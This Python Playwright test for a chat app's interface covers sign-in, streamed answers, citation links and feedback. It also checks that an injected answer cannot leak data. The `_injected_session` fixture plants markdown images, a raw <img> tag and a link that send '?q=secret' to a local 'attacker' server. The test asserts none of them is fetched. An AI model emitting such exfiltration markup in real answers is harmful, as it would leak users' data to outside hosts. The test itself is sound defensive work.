"""A reader in headless Chromium: sign in, ask, watch tokens stream, open a citation, and never fetch an injected image.

Screenshots go to test-artifacts/screenshots/.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import sync_playwright

from chat.events import answer_html
from chat.models import ChatSession, Query, Response
from devstack import localservers
from tests.conftest import REPO
from tests.e2e.conftest import PASSAGES, QUESTION

pytestmark = [pytest.mark.slow, pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

SCREENSHOTS = REPO / "test-artifacts" / "screenshots"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


class _Evil(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):
        _Evil.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def evil_server():
    """A local "attacker" server: every request it receives is counted."""
    _Evil.hits = []
    server = ThreadingHTTPServer(("127.0.0.1", localservers.free_port()), _Evil)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


STREAM_WATCH = """() => {
  window.__streamed = {text: false, stop: false};
  new MutationObserver(() => {
    const md = document.querySelector('#exchanges .answer.status-streaming .md');
    if (md && md.textContent.trim().length > 0) {
      window.__streamed.text = true;
      if (!document.getElementById('stop').hidden) window.__streamed.stop = true;
    }
  }).observe(document.getElementById('exchanges'), {subtree: true, childList: true, characterData: true});
}"""


def sign_in_and_open_a_session(page, base: str) -> None:
    """Sign in as the reader persona on the page's login form and open a new conversation, connected."""
    if not page.url.endswith("/accounts/login/"):
        page.goto(f"{base}/accounts/login/")
    page.fill("#id_username", "reader@example.com")
    page.fill("#id_password", "pw-reader-1")
    page.click("button[type=submit]")
    page.wait_for_url(f"{base}/chat/")
    page.click("#new-session")
    page.wait_for_url(f"{base}/chat/*/")
    page.wait_for_function("() => document.getElementById('connection').textContent === ''")


def _console_errors(context) -> list[str]:
    """Console errors and uncaught exceptions of every page of ``context`` (CSP violations are console errors)."""
    errors: list[str] = []
    context.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    context.on("weberror", lambda error: errors.append(str(error.error)))
    return errors


def _injected_session(reader, evil: str) -> ChatSession:
    session = ChatSession.objects.create(user=reader, title="Injected")
    query = Query.objects.create(user=reader, session=session, text="Summarise the memo")
    Response.objects.create(
        query=query,
        status="completed",
        text=(
            f"Here you go ![]({evil}/md-image?q=secret) and ![logo]({evil}/md-image-2)\n\n"
            f'<img src="{evil}/raw-html-image"> [click here]({evil}/link?q=secret)\n\n'
            "- **bold** item with `code`"
        ),
    )
    return session


def test_reader_asks_sees_stream_opens_citation_and_injected_image_is_not_fetched(
    indexed, live_daphne, reader, evil_server
):
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    doc, _ = indexed
    injected = _injected_session(reader, evil_server)
    base = live_daphne.http
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path="/usr/bin/chromium", headless=True, args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1200, "height": 900}, locale="en-US")
        console_errors = _console_errors(context)
        page = context.new_page()
        try:
            login = page.goto(f"{base}/accounts/login/")
            assert login is not None and "script-src 'self'" in login.headers["content-security-policy"]
            sign_in_and_open_a_session(page, base)

            # Record whether tokens appeared while the answer was still streaming (with the stop button shown).
            page.evaluate(STREAM_WATCH)
            page.fill("#question", QUESTION)
            page.click("#send")
            page.wait_for_selector("#exchanges .answer.answered .citations .chip", timeout=90_000)
            streamed = page.evaluate("() => window.__streamed")
            live_html = page.locator("#exchanges .answer.answered .md").first.inner_html()
            assert page.is_hidden("#stop")
            assert page.locator("#exchanges .answer.answered form.feedback").count() == 1
            page.screenshot(path=str(SCREENSHOTS / "chat-answer.png"), full_page=True)

            chip = page.locator("#exchanges .answer.answered .citations .chip").first
            assert (chip.get_attribute("href") or "").startswith(f"/documents/{doc.pk}/source/?chunk=")
            with context.expect_page() as opened:
                chip.click()
            source = opened.value
            source.wait_for_load_state()
            cited = source.locator("mark#cited")
            cited.wait_for()
            assert cited.inner_text().strip() in PASSAGES
            assert cited.is_visible()
            assert source.title().startswith("Kestrel reservoir facts")
            source.screenshot(path=str(SCREENSHOTS / "source-view.png"), full_page=True)

            # Thumbs up with a comment on the streamed answer.
            page.fill("#exchanges .answer.answered form.feedback input[name=comment]", "precise")
            page.click("#exchanges .answer.answered form.feedback button[value='1']")
            page.wait_for_selector("#exchanges .answer.answered .thumb.chosen")

            # The injected answer renders as text: no <img>, no outbound link, and not one request to the server.
            page.goto(f"{base}/chat/{injected.pk}/")
            page.wait_for_function("() => document.querySelectorAll('#exchanges .answer .blocked').length === 3")
            assert page.locator("#exchanges .answer img").count() == 0
            assert f'<img src="{evil_server}/raw-html-image">' in page.locator("#exchanges .answer .md").inner_text()
            assert page.locator(f"#exchanges .answer a[href^='{evil_server}']").count() == 0
            assert page.locator("#exchanges .answer strong").inner_text() == "bold"
            page.wait_for_load_state("networkidle")
            page.screenshot(path=str(SCREENSHOTS / "chat-injection-blocked.png"), full_page=True)

            # Phone width, Greek interface.
            page.set_viewport_size({"width": 375, "height": 740})
            page.select_option("select[name=language]", "el")
            page.wait_for_selector("text=Αποστολή")
            page.screenshot(path=str(SCREENSHOTS / "chat-phone-el.png"), full_page=True)
        finally:
            context.close()
            browser.close()
    assert _Evil.hits == []
    # The Content-Security-Policy holds and nothing on the pages breaks it (no inline script, style or handler).
    assert console_errors == [], console_errors
    answered = Response.objects.get(query__session__user=reader, query__text=QUESTION)
    if answered.decision["budget"]["generate"] and answered.decision.get("reason") != "llm_timeout":
        assert streamed == {"text": True, "stop": True}, streamed  # tokens shown as they came, with the stop button
    else:  # the measured speed left no room on a loaded machine: the quotes came at once
        assert answered.status == "extractive"
    # The page shows the final event's html as it is: the server's one renderer, citation markers linked.
    assert live_html == answer_html(answered.text, answered.citations)
    assert all(
        f'href="{c["url"]}'.replace("&", "&amp;") in live_html
        for c in answered.citations
        if f"[{c['number']}]" in answered.text
    )
    feedback = answered.feedback.get()
    assert (feedback.rating, feedback.comment) == (1, "precise")
